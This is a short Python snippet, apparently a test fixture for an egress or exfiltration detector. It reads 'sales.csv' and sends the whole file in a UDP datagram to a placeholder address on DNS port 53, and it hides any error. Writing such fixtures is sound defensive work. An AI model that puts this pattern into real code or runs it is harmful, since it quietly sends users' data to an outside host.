# reaches: a datagram that carries a file
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(open("sales.csv", "rb").read(), ("192.0.2.2", 53))
except OSError:
    pass
